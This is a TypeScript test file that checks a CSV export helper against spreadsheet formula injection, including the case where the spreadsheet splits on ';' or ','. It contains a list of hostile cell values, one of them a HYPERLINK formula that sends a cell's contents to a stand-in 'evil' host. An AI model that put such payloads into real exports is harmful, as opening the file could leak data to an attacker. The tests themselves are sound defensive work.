import { describe, expect, it } from 'vitest';
import { csvField, csvText } from '../../src/api/csv.ts';

/** Splits one CSV line the way a spreadsheet set to `separator` does (RFC 4180 quoting). */
function cellsAsSpreadsheetSees(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i += 1) {
    const c = line[i]!;
    if (quoted && c === '"' && line[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (c === '"') quoted = !quoted;
    else if (c === separator && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  return [...cells, cell];
}

const HOSTILE = [
  'x,=HYPERLINK("https://evil/?"&B2)',
  'x;=1+1',
  'x,=1+1',
  'x,@SUM(A1)',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  'a\n=1',
  'say "hi", then =2',
];

describe('CSV cells', () => {
  it('never lets a cell start a formula, whether the spreadsheet splits on ; or on ,', () => {
    for (const separator of [';', ',']) {
      for (const value of HOSTILE) {
        const line = csvText([['1', value, '2']]).replace(/\r\n$/, '');
        for (const cell of cellsAsSpreadsheetSees(line, separator))
          expect(/^[=+\-@\t\r]/.test(cell), `${JSON.stringify(value)} split on ${separator}: ${cell}`).toBe(false);
      }
    }
  });

  it('keeps every value whole: a spreadsheet on ; reads back the value, behind an apostrophe if it was a formula', () => {
    for (const value of HOSTILE) {
      const [, cell] = cellsAsSpreadsheetSees(csvText([['1', value, '2']]).replace(/\r\n$/, ''), ';');
      expect(cell === value || cell === `'${value}`, value).toBe(true);
    }
  });

  it('leaves plain text and the numbers the service writes, negative amounts included, as they are', () => {
    for (const value of ['lunch', '100.50', '-12.34', '0', '2026-11-28T10:00:00.000000Z', ''])
      expect(csvField(value)).toBe(value);
  });

  it('ends every line with CRLF', () => {
    expect(csvText([['a', 'b'], ['c']])).toBe('a;b\r\nc\r\n');
  });
});
